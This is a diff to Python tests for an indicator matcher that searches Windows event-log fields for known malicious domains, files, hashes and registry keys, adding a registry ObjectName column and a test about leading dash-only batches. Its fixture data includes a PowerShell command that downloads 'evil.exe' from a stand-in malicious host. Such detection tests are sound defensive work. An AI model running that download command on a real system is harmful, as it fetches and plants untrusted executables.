@@ -130,6 +130,7 @@ def test_kinds_that_are_compared_as_a_whole():
         "TargetObject": [r"HKU\S-1-5-21-1-2-3-4\Software\Evil\Run", "HKLM\\Software"],
         "Hashes": ["SHA1=" + "0" * 40 + ",IMPHASH=" + "12" * 16, "-"],
         "CommandLine": ["powershell iwr http://cdn.bad.jp/x -o evil.exe", "dir"],
+        "ObjectName": ["-", r"\REGISTRY\USER\S-1-5-21-1-2-3-4\Software\Evil"],
     }
     matcher.match([batch(rows, "windows")], sightings)
     assert {one.indicator.value: sorted(one.columns) for one in sightings.results()} == {
@@ -137,7 +138,7 @@ def test_kinds_that_are_compared_as_a_whole():
         "evil@bad.jp": ["From"],
         "evil.exe": ["CommandLine", "Image"],
         "%userprofile%\\appdata\\local\\temp\\drop.exe": ["Image"],
-        "hkcu\\software\\evil": ["TargetObject"],
+        "hkcu\\software\\evil": ["ObjectName", "TargetObject"],
         "12" * 16: ["Hashes"],
     }
 
@@ -242,3 +243,10 @@ def test_what_comes_in_is_handed_on_while_it_is_searched():
     given = [batch({"host": ["a.evil.com"]}), batch({"host": ["ok.example.jp"]})]
     assert list(matcher.through(iter(given), sightings)) == given
     assert [one.count for one in sightings.results()] == [1]
+
+
+def test_a_first_batch_of_dashes_decides_nothing():
+    matcher = Matcher(INDICATORS)
+    sightings = matcher.sightings()
+    matcher.match([batch({"行き先": ["-", "-", ""]}), batch({"行き先": ["evil.com", "ok.example.jp"]})], sightings)
+    assert [one.indicator.value for one in sightings.results()] == ["evil.com"]
